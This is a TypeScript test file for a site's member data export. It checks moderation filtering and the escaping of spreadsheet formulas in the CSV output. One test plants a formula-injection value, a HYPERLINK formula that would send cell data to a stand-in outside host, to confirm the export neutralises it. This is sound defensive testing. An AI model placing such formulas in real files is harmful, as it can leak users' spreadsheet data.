import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import type { Member } from '#app/testing/factories.ts'
import { openTestApp, type TestApp } from '#app/testing/test-app.ts'
import { createComment } from '#features/comments/contract/endpoints.ts'
import * as queue from '#features/moderation/contract/endpoints.ts'
import { answerNote } from '#features/notes/contract/endpoints.ts'
import { propose, publishArticle } from '#features/notes/testing/notes.ts'
import { exportOf } from './testing/archive.ts'

let app: TestApp
let author: Member
let writer: Member
let milo: Member

before(async () => {
  app = await openTestApp()
  author = await app.member({ score: 80 })
  writer = await app.member({ tier: 'annual', score: 90 })
  milo = await app.member({ isModerator: true })
})
after(() => app.close())

const rowsIn = (files: Map<string, string>, name: string) =>
  JSON.parse(files.get(name) ?? '[]') as Record<string, unknown>[]
/** A note about an article of the author's, with the author's answer. */
async function answered(answer: string) {
  const note = await propose(writer, await publishArticle(author))
  await author.call(answerNote, { params: { id: note.id }, body: { text: answer } })
  return note
}
const rejectNote = async (subjectId: string) => {
  const { items } = await milo.call(queue.listQueue, { query: { kind: 'note', limit: 50 } })
  const { id, version } = items.find((each) => each.subjectId === subjectId) ?? assert.fail()
  const body = { version, reason: 'Stay with the matter.' }
  await milo.call(queue.rejectItem, { params: { id }, body })
}

describe('a member’s export', () => {
  test('has public answers to their notes, and none that a moderator holds back', async () => {
    const open = await answered('Thank you, the minutes are new to me.')
    const held = await answered('A miracle cure, as I said.')
    const files = await exportOf(app, writer)
    const answers = rowsIn(files, 'context-notes.json').map(
      ({ id, answer, answer_hidden_reason }) => [id, answer, answer_hidden_reason],
    )
    assert.deepEqual(
      new Map(answers.map(([id, ...rest]) => [id, rest])),
      new Map([
        [open.id, ['Thank you, the minutes are new to me.', null]],
        [held.id, [null, null]],
      ]),
    )
    assert.doesNotMatch([...files.values()].join('\n'), /miracle cure/)
    const own = rowsIn(await exportOf(app, author), 'answers-to-notes.json')
    assert.ok(own.some(({ answer }) => answer === 'A miracle cure, as I said.'))
  })

  test('has their answers to notes of others, without the words of a note that was rejected', async () => {
    const note = await answered('I said so in paragraph two.')
    const params = { kind: 'note', subjectId: note.id }
    await milo.call(queue.report, { params, body: { ground: 'false' } })
    await rejectNote(note.id)
    const files = await exportOf(app, author)
    const row = rowsIn(files, 'answers-to-notes.json').find(({ id }) => id === note.id)
    assert.deepEqual(
      [row?.['answer'], row?.['text'], row?.['sources']],
      ['I said so in paragraph two.', null, null],
    )
    assert.ok(![...files.values()].join('\n').includes(note.text))
  })

  test('has spreadsheets in which no cell is a formula, no matter who wrote it', async () => {
    const formula = '=HYPERLINK("https://example.org/?"&A1,"the minutes")'
    const note = await answered(formula)
    const article = await publishArticle(author)
    await writer.call(createComment, {
      body: { contentType: 'article', contentId: article, content: '@SUM(A1:A9) is a formula.' },
    })
    const files = await exportOf(app, writer)
    const notes = files.get('context-notes.csv') ?? ''
    assert.ok(notes.includes(`"'=HYPERLINK(""https://example.org/?""&A1,""the minutes"")"`), notes)
    assert.match(files.get('comments.csv') ?? '', /,'@SUM\(A1:A9\) is a formula\.,/)
    for (const [name, text] of files)
      if (name.endsWith('.csv')) assert.doesNotMatch(text, /(^|,|")[=@]/m, name)
    const kept = rowsIn(files, 'context-notes.json').find(({ id }) => id === note.id)
    assert.equal(kept?.['answer'], formula, 'the JSON has it as it was written')
  })
})
